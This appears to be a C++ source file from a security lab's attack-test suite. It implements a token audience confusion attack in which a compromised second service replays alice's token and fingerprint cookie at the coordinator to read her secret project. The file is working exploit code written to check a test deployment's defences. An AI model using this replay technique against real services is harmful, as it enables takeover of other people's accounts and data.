// token-for-another-audience (stage 5): the deployment's token issuer also signs for another service, lab-reports.
// Alice asks for a token for it (POST /api/session/service-token) and hands it, with its fingerprint, to that
// service, as she must for it to act for her. The service, compromised or malicious, replays what it was given at
// the coordinator from its own host: a valid ES256 signature by the same key, bound to a fingerprint it holds.
// Exploited when that lists alice's projects and her secret one.
#include "attacks/attack_list.h"
#include "attacks/web_attack_helpers.h"
#include "web/cookies.h"

namespace lab::attacks {
namespace {

constexpr const char* kOtherService = "lab-reports";

class TokenForAnotherAudience final : public Attack {
 public:
  std::string_view id() const override { return "token-for-another-audience"; }
  std::string_view title() const override { return "Replay a token meant for another service"; }
  // The issuer must serve a second audience for alice to ask a token for.
  void adjust(StageSettings& settings) const override { settings.token_audiences = {kOtherService}; }

  AttackResult run(const Target& t) const override {
    auto victim = web_victim_with_secret(t);
    if (!victim) return failed("no verdict: " + victim.error().message);
    auto handed = victim->browser->request("POST", "/api/session/service-token", Json{{"audience", kOtherService}}.dump());
    if (!handed) return failed("no verdict: alice cannot ask for a token for " + std::string(kOtherService) + ": " + handed.error().message);
    const Json given = Json::parse(handed->body, nullptr, false);
    if (handed->status != 201 || !given.is_object() || !given.contains("access_token") || !given.contains("fingerprint")) {
      return failed("no verdict: the stage issued alice no token for " + std::string(kOtherService) + ": " +
                    describe(*handed) + " (start it with --token-audience " + kOtherService + ")");
    }
    auto parts = split_jwt(given.value("access_token", ""));
    if (!parts || parts->payload.value("aud", "") != kOtherService) {
      return failed("no verdict: the token alice was given does not name " + std::string(kOtherService) + " as its audience");
    }
    // What the other service holds: the token and the fingerprint it is bound to, sent as a browser would.
    web::HttpsClient service(web_endpoint(t, t.other_address));
    // Under the name the stage gave alice's own fingerprint cookie (without __Host- when hardened-cookie is off).
    const bool hardened = victim->browser->cookie(web::cookie_name(web::kFingerprintCookie, true)).has_value();
    const std::string fingerprint_cookie = web::cookie_name(web::kFingerprintCookie, hardened);
    return verdict_on_reading_secret(
        service.request("GET", "/api/projects",
                        {{"Authorization", "Bearer " + given.value("access_token", "")},
                         {"Cookie", fingerprint_cookie + "=" + given.value("fingerprint", "")}}),
        *victim, "as " + std::string(kOtherService) + " from " + t.other_address + ", with the token alice gave it");
  }
};

}  // namespace

std::unique_ptr<Attack> make_token_for_another_audience() { return std::make_unique<TokenForAnotherAudience>(); }

}  // namespace lab::attacks
